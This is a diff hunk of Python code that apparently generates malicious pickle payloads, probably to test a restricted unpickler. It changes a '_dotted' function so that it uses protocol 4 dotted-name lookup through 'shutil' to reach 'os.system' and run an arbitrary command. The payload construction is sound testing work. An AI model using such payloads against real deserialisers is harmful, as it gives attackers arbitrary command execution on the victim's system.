@@ -82,11 +82,9 @@ def _newobj_ex(command: str) -> bytes:
 
 
 def _dotted(command: str) -> bytes:
-    """Protocol 4 looks up dotted names: from a class that is allowed to what it can reach."""
-    names = pickle.dumps("collections", 4)[11:-2] + pickle.dumps("abc.sys.modules", 4)[11:-2]
-    reach = Calls("operator", "getitem", Named("sys", "modules"), "os")
-    call = Calls("operator", "methodcaller", "system", command)
-    return b"\x80\x04" + names + b"\x930" + call.write() + b"(" + reach.write() + b"tR."
+    """Protocol 4 looks up dotted names: from a module to all that it can reach."""
+    module, name = (b"\x8c" + bytes([len(each)]) + each for each in (b"shutil", b"os.system"))
+    return b"\x80\x04" + module + name + b"\x93" + _tuple((command,)) + b"R."
 
 
 def _nested(module: str, name: str) -> Attack:
